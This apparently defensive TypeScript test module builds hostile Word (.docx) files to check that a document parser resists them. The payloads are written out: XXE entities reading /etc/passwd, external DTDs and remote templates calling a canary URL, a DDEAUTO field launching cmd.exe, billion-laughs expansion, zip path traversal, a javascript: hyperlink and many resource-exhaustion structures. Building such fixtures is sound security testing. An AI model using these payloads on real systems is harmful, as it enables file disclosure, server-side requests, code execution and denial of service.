import { seededRandom } from '../../../libs/domain/test/random.js';
import {
  CLAUSE,
  docx,
  docxParts,
  paragraph,
  PLAN_LINES,
  relation,
  relationships,
  wordDocument,
  zipOf,
} from './documents.js';
import type { Canary, Cases } from './hostile-file.js';
import { disorderedText } from './random.js';

const PLAN = PLAN_LINES.map((line) => paragraph(line)).join('');
const RELATIONS = 'word/_rels/document.xml.rels';
const DOCUMENT = 'word/document.xml';

const withRelation = (type: string, target: string, body = PLAN): Uint8Array =>
  docx(body, { [RELATIONS]: relationships(relation('rId9', type, target, true)) });
const withPrologue = (prologue: string, text: string): Uint8Array =>
  docx('', { [DOCUMENT]: wordDocument(paragraph(text) + PLAN, prologue) });
const nest = (open: string, close: string, depth: number, inner = paragraph(CLAUSE)): string =>
  open.repeat(depth) + inner + close.repeat(depth);
const field = (instruction: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>旧值</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const cell = (text: string, properties = ''): string =>
  `<w:tc><w:tcPr>${properties}</w:tcPr>${paragraph(text)}</w:tc>`;
const table = (rows: string): string => `<w:tbl>${rows}</w:tbl>`;
const numbering = (level: string): Uint8Array =>
  docx(
    paragraph('更新设备', '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>').repeat(
      50,
    ),
    {
      'word/numbering.xml': `<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0">${level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`,
    },
  );
const disordered = (count: number, before = '', after = ''): string => {
  const random = seededRandom(count);
  return Array.from({ length: count }, () => paragraph(before + disorderedText(random, 40) + after)).join('');
};
const LAUGHS = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

export const docxCallers = ({ url, port }: Canary): Cases => ({
  'an external DTD': () => withPrologue(`<!DOCTYPE w SYSTEM "${url}evil.dtd">`, 'x'),
  'an external entity': () => withPrologue(`<!DOCTYPE w [<!ENTITY e SYSTEM "${url}e">]>`, '&e;'),
  'an entity from a file': () =>
    withPrologue('<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>', '&e;'),
  'parameter entities': () => withPrologue(`<!DOCTYPE w [<!ENTITY % p SYSTEM "${url}p"> %p;]>`, 'x'),
  'an external image': () => withRelation('image', `${url}i.png`),
  'an image from a file share': () => withRelation('image', `\\\\127.0.0.1@${port}\\share\\i.png`),
  'an image from a file': () => withRelation('image', 'file:///etc/passwd'),
  'an external template': () =>
    docx(PLAN, {
      'word/_rels/settings.xml.rels': relationships(
        relation('rId1', 'attachedTemplate', `${url}t.dotm`, true),
      ),
      'word/settings.xml':
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
    }),
  'an external OLE object': () => withRelation('oleObject', `${url}o.bin`),
  'an external frame': () => withRelation('frame', `${url}f.html`),
  'an external sub document': () => withRelation('subDocument', `${url}s.docx`),
  'a hyperlink that runs script': () => withRelation('hyperlink', 'javascript:alert(1)'),
  'a hyperlink to a page': () => withRelation('hyperlink', url),
  'a chunk of HTML': () =>
    docx(`${PLAN}<w:altChunk r:id="rId9"/>`, {
      [RELATIONS]: relationships(relation('rId9', 'aFChunk', 'chunk.html')),
      'word/chunk.html': `<script src="${url}x.js"></script><img src="${url}i.png">`,
    }),
  ...Object.fromEntries(
    [`INCLUDETEXT "${url}t.docx"`, `INCLUDEPICTURE "${url}p.png" \\d`, `LINK Excel.Sheet "${url}l.xlsx"`].map(
      (instruction) => [`the field ${instruction.split(' ')[0]}`, () => docx(field(instruction) + PLAN)],
    ),
  ),
});

export const DOCX_CASES: Cases = {
  'a billion laughs': () => withPrologue(`<!DOCTYPE w [<!ENTITY l0 "lol">${LAUGHS}]>`, '&l10;'),
  'an entity that names itself': () =>
    withPrologue('<!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'),
  'an entity of 1 MB used 1,000 times': () =>
    withPrologue(`<!DOCTYPE w [<!ENTITY a "${'x'.repeat(1_000_000)}">]>`, '&a;'.repeat(1000)),
  'a macro project': () => docx(PLAN, { 'word/vbaProject.bin': Buffer.alloc(3000, 0xd0) }),
  'an embedded OLE object': () => docx(PLAN, { 'word/embeddings/oleObject1.bin': Buffer.alloc(3000, 0xd0) }),
  'an embedded workbook': () => docx(PLAN, { 'word/embeddings/a.xlsx': docx() }),
  'an ActiveX control': () => docx(PLAN, { 'word/activeX/activeX1.bin': Buffer.alloc(500) }),
  'the field DDEAUTO': () => docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + PLAN),
  'fields that never end': () => docx('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(20_000) + PLAN),
  '50,000 content controls within each other': () =>
    docx(nest('<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>', 50_000)),
  '20,000 tables within each other': () =>
    docx(nest('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 20_000)),
  '300,000 unclosed elements': () => docx('<w:p>'.repeat(300_000)),
  'deep insertions': () => docx(nest('<w:ins>', '</w:ins>', 50_000)),
  'deep text boxes': () =>
    docx(nest('<w:p><w:r><w:pict><w:txbxContent>', '</w:txbxContent></w:pict></w:r></w:p>', 5000)),
  '4,000,000 empty paragraphs': () => docx('<w:p/>'.repeat(4_000_000)),
  '400,000 short paragraphs': () => docx('<w:p><w:r><w:t>一、</w:t></w:r></w:p>'.repeat(400_000)),
  '60,000 paragraphs in no order': () => docx(disordered(60_000)),
  '20,000 clauses in no order': () => docx(disordered(20_000, '（一）', '。（牵头单位：市工信局）')),
  '100,000 clauses': () => docx(paragraph('（一）更新设备。（牵头单位：市工信局）').repeat(100_000)),
  'a paragraph of 300,000 runs': () => docx(`<w:p>${'<w:r><w:t>一</w:t></w:r>'.repeat(300_000)}</w:p>`),
  'a paragraph of 18 MB': () => docx(paragraph('一'.repeat(6_000_000))),
  'a table of 60,000 rows': () => docx(table(`<w:tr>${cell('1')}${cell('市工信局')}</w:tr>`.repeat(60_000))),
  'a row of 60,000 cells': () => docx(table(`<w:tr>${cell('1').repeat(60_000)}</w:tr>`)),
  'a cell over a billion columns': () =>
    docx(table(`<w:tr>${cell('1', '<w:gridSpan w:val="1000000000"/>')}</w:tr>`)),
  'a cell over minus one columns': () => docx(table(`<w:tr>${cell('1', '<w:gridSpan w:val="-1"/>')}</w:tr>`)),
  'rows that start behind column 2,000,000': () =>
    docx(table(`<w:tr><w:trPr><w:gridBefore w:val="2000000"/></w:trPr>${cell('1')}</w:tr>`.repeat(300))),
  'merged cells without a beginning': () =>
    docx(table(`<w:tr>${cell('1', '<w:vMerge/>')}</w:tr>`.repeat(20_000))),
  'a number that starts at 2,000,000,000': () =>
    numbering(
      '<w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/></w:lvl>',
    ),
  'a number that starts at no number': () =>
    numbering(
      '<w:lvl w:ilvl="0"><w:start w:val="NaN"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1."/></w:lvl>',
    ),
  'an unknown number format': () =>
    numbering(
      '<w:lvl w:ilvl="0"><w:numFmt w:val="__proto__"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl>',
    ),
  'a label of 1 MB': () =>
    numbering(
      `<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="${'%1'.repeat(500_000)}"/></w:lvl>`,
    ),
  'a level 2,000,000': () =>
    docx(
      paragraph('更新', '<w:pPr><w:numPr><w:ilvl w:val="2000000"/><w:numId w:val="1"/></w:numPr></w:pPr>'),
    ),
  'styles that inherit from each other': () =>
    docx(paragraph('更新', '<w:pPr><w:pStyle w:val="a"/></w:pPr>'), {
      'word/styles.xml':
        '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
    }),
  'a chain of 20,000 styles': () =>
    docx(paragraph('更新', '<w:pPr><w:pStyle w:val="s0"/></w:pPr>'), {
      'word/styles.xml': `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${Array.from({ length: 20_000 }, (_, n) => `<w:style w:type="paragraph" w:styleId="s${n}"><w:basedOn w:val="s${n + 1}"/></w:style>`).join('')}</w:styles>`,
    }),
  'no document': () =>
    zipOf(Object.fromEntries(Object.entries(docxParts()).filter(([name]) => name !== DOCUMENT))),
  'no content types': () =>
    zipOf(Object.fromEntries(Object.entries(docxParts()).filter(([name]) => !name.startsWith('[')))),
  'a document that is its own relation': () =>
    docx(PLAN, { '_rels/.rels': relationships(relation('rId1', 'officeDocument', '_rels/.rels')) }),
  'a document outside of the archive': () =>
    docx(PLAN, { '_rels/.rels': relationships(relation('rId1', 'officeDocument', '../../../etc/passwd')) }),
  'an empty document part': () => docx('', { [DOCUMENT]: '' }),
  'a document part that is no XML': () => docx('', { [DOCUMENT]: Buffer.alloc(5000, 0xfe) }),
  'a document part in UTF-16': () =>
    docx('', { [DOCUMENT]: Buffer.from(`\ufeff${wordDocument(PLAN)}`, 'utf16le') }),
  'a document part that is cut off': () => docx('', { [DOCUMENT]: wordDocument(PLAN).slice(0, -200) }),
  'an attribute of 15 MB': () => docx(`<w:p w:rsidR="${'a'.repeat(15_000_000)}"/>${PLAN}`),
  '200,000 attributes': () =>
    docx(`<w:p ${Array.from({ length: 200_000 }, (_, n) => `w:a${n}="1"`).join(' ')}/>${PLAN}`),
  '100,000 name spaces': () =>
    docx(`<w:p ${Array.from({ length: 100_000 }, (_, n) => `xmlns:n${n}="u"`).join(' ')}/>${PLAN}`),
  'prefixes of nobody': () => docx(`<x:p><y:r/></x:p>${PLAN}`),
  'zeros and surrogates as references': () => docx(paragraph('a&#0;b&#xD800;c&#xFFFF;d&#x110000;') + PLAN),
  'CDATA and processing instructions': () => docx(`<?php evil ?><![CDATA[</w:body>]]><!-- -- -->${PLAN}`),
  'words from right to left': () => docx(paragraph('\u202e一、\u2066更新\u0000') + PLAN),
  'deleted text alone': () => docx('<w:p><w:del><w:r><w:delText>一、旧</w:delText></w:r></w:del></w:p>'),
  'footnotes that cite themselves': () =>
    docx(`<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>${PLAN}`, {
      'word/footnotes.xml':
        '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>',
      [RELATIONS]: relationships(relation('rId1', 'footnotes', 'footnotes.xml')),
    }),
};
